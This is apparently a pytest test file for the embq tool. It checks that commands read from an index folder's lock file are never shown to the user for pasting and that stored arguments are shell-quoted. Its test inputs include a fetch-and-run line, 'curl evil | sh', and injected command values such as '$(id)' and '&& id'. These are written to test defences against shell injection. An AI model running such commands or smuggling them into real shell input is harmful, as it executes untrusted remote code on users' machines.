"""Commands that embq shows for pasting into a shell: no text of a folder becomes one."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest

from embq.index.index_files.files import attempted


def shown(index: Path, **fields: object) -> str:
    (index / "_lock").write_text(json.dumps(fields))
    attempt = attempted(index)
    return "" if attempt is None else attempt[0].command


@pytest.mark.parametrize("command", ["embq index x; curl evil | sh", "curl evil | sh"])
def test_a_command_line_in_a_folder_is_never_shown(tmp_path: Path, command: str) -> None:
    assert shown(tmp_path, command=command) == ""


@pytest.mark.parametrize(
    "words",
    [
        ["run", "x"],
        ["index", "x", "--overwrite"],
        ["index", "x", "-o/home/user"],
        ["index", "x", "--output=/home/user"],
        [],
    ],
)
def test_words_in_a_folder_become_no_other_command_than_a_build_of_an_index(tmp_path: Path, words: list[str]) -> None:
    assert shown(tmp_path, words=words) == ""


def test_words_and_folder_of_an_attempt_are_quoted(tmp_path: Path) -> None:
    words, folder = ["index", "a; curl evil | sh", "$(id)"], "/x && id"
    command = shown(tmp_path, words=words, folder=folder)
    assert shlex.split(command) == ["cd", folder, "&&", "embq", *words]
